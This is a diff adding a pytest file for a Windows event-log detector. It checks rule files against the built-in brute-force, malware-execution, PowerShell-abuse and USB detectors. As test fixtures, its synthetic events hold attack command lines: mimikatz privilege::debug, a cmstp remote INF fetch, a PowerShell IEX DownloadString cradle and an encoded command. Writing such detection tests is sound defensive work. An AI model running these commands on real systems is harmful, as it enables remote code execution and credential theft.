@@ -0,0 +1,122 @@
+"""The shipped rule files against the built-in detectors they replace, and rule loading."""
+import os
+from datetime import datetime, timedelta
+
+import pytest
+
+from app.detectors.base import FunctionDetector
+from app.detectors.bruteforce import BruteForceDetector
+from app.detectors.malware_exec import MalwareExecDetector
+from app.detectors.powershell_abuse import POWERSHELL_EVENT_IDS, detect_powershell_abuse
+from app.detectors.rules import RuleDetector, load_rule_files
+from app.detectors.usb_monitor import UsbDetector
+
+RULES_DIR = os.path.join(os.path.dirname(__file__), '..', 'rules')
+# Spray checks have no rule counterpart
+THRESHOLDS = {'brute_force_failures': 2, 'brute_force_window_minutes': 10,
+              'spray_users_per_ip': 0, 'spray_ips_per_user': 0}
+START = datetime(2024, 5, 1, 9, 0)
+
+
+def stream():
+    """A mixed stream, in time order, that exercises every rule file and stays clear of window edges."""
+    events = []
+
+    def add(seconds, channel, event_id, **fields):
+        events.append(dict({'timestamp': (START + timedelta(seconds=seconds)).isoformat(), 'channel': channel,
+                            'event_id': event_id, 'record_id': len(events) + 1, 'user': 'bob', 'ip': None,
+                            'command': None, 'message': '', 'computer': 'WS01'}, **fields))
+
+    # brute force: a burst, a single failure elsewhere, the burst again after a quiet window
+    for s in (0, 10, 20):
+        add(s, 'Security', 4625, ip='203.0.113.9')
+    add(30, 'Security', 4625, ip='198.51.100.7', user='alice')
+    for s in (1800, 1810):
+        add(s, 'Security', 4625, ip='203.0.113.9')
+    # process creation: tool (repeated inside and after the dedupe), LOLBin with and without flags, path, whitelist
+    add(40, 'Security', 4688, command='C:\\Tools\\mimikatz.exe privilege::debug')
+    add(70, 'Security', 4688, command='C:\\Tools\\mimikatz.exe privilege::debug')
+    add(200, 'Security', 4688, command='C:\\Tools\\mimikatz.exe privilege::debug')
+    add(210, 'Security', 4688, command='C:\\Windows\\System32\\cmstp.exe /s /i:http://x/evil.inf')
+    add(220, 'Security', 4688, command='C:\\Windows\\System32\\wmic.exe os get caption')
+    add(230, 'Security', 4688, command='C:\\Users\\Public\\update.exe /quiet')
+    add(240, 'Security', 4688, command='C:\\Windows\\System32\\svchost.exe -k rundll32')
+    add(250, 'Security', 4688, command='notepad.exe report.txt')
+    # PowerShell: encoded script block, keywords via process creation and script block, non-PowerShell
+    add(300, 'Microsoft-Windows-PowerShell/Operational', 4104,
+        message='powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')
+    add(310, 'Security', 4688,
+        command="powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
+    add(320, 'Microsoft-Windows-PowerShell/Operational', 4104, message='Invoke-Expression $payload')
+    add(330, 'Security', 4688, command='cmd.exe /c echo iex')
+    add(340, 'Security', 4688, command='powershell.exe Get-ChildItem')
+    # USB: attach, its duplicate, remove, attach again later, a legacy line, unrelated System events
+    usb = {'usb_pnp_id': 'USBSTOR\\DISK&VEN_SANDISK&PROD_ULTRA\\4C530001231120115142&0', 'usb_model': 'SanDisk Ultra',
+           'usb_name': '', 'usb_capacity_gb': 29.8}
+    add(400, 'System', 9999, usb_kind='attach', **usb)
+    add(402, 'System', 9999, usb_kind='attach', **usb)
+    add(403, 'System', 9999, usb_kind='remove', **usb)
+    add(430, 'System', 9999, usb_kind='attach', **usb)
+    add(440, 'System', 2003, message='Device configured (USB\\VID_0781&PID_5581)')
+    add(450, 'System', 7036, message='The Print Spooler service entered the running state.')
+    add(460, 'Security', 4624, message='An account was successfully logged on.')
+    return sorted(events, key=lambda e: e['timestamp'])
+
+
+def fired(detector, events, batch=4, severity=True):
+    """(severity, triggering record) of each alert, feeding the stream in small batches."""
+    out = []
+    for i in range(0, len(events), batch):
+        for alert in detector.process(events[i:i + batch]):
+            out.append((alert['severity'] if severity else None, alert['events'][-1]['record_id']))
+    return sorted(out, key=lambda a: a[1])
+
+
+def enabled_rules(replaces):
+    docs = [dict(d, enabled=True) for d in load_rule_files(RULES_DIR) if d.get('replaces') == replaces]
+    assert docs, f"no rule file replaces {replaces}"
+    return RuleDetector(docs, THRESHOLDS)
+
+
+@pytest.mark.parametrize('name, builtin, severity', [
+    ('bruteforce', lambda: BruteForceDetector(THRESHOLDS), True),
+    ('malware_exec', lambda: MalwareExecDetector(THRESHOLDS), True),
+    ('powershell_abuse', lambda: FunctionDetector('powershell_abuse', detect_powershell_abuse, THRESHOLDS,
+                                                  event_ids=POWERSHELL_EVENT_IDS), True),
+    # the built-in grades attach/remove severity by device type; the rule raises them all as LOW
+    ('usb_monitor', lambda: UsbDetector(THRESHOLDS), False),
+])
+def test_rules_raise_the_same_alerts_as_builtin(name, builtin, severity):
+    events = stream()
+    expected = fired(builtin(), events, severity=severity)
+    assert expected, f"the stream raises no {name} alerts"
+    assert fired(enabled_rules(name), events, severity=severity) == expected
+
+
+def test_shipped_rules_are_disabled_and_replace_builtins():
+    docs = load_rule_files(RULES_DIR)
+    assert docs and all(d.get('enabled') is False for d in docs)
+    detector = RuleDetector(docs)
+    assert len(detector) == 0 and not detector.replaces
+    enabled = RuleDetector([dict(d, enabled=True) for d in docs])
+    assert len(enabled) == len(docs)
+    assert enabled.replaces == {'bruteforce', 'malware_exec', 'powershell_abuse', 'usb_monitor'}
+
+
+def rule(rule_id, title, source):
+    return {'id': rule_id, 'title': title, '_file': source, 'event_ids': [4688],
+            'detection': {'selection': {'event_id': 4688}, 'condition': 'selection'}}
+
+
+def test_duplicate_id_keeps_first_rule():
+    detector = RuleDetector([rule('dup', 'first', 'a.yml'), rule('dup', 'second', 'b.yml'),
+                             rule('other', 'other', 'b.yml')])
+    assert [r.id for r in detector.rules] == ['dup', 'other']
+    alerts = detector.process([{'timestamp': START.isoformat(), 'channel': 'Security', 'event_id': 4688}])
+    assert sorted(a['title'] for a in alerts) == ['first', 'other']
+
+
+def test_broken_rule_is_skipped():
+    bad = dict(rule('bad', 'bad', 'c.yml'), detection={'selection': {'command|nope': 'x'}, 'condition': 'selection'})
+    detector = RuleDetector([bad, rule('good', 'good', 'c.yml')])
+    assert [r.id for r in detector.rules] == ['good']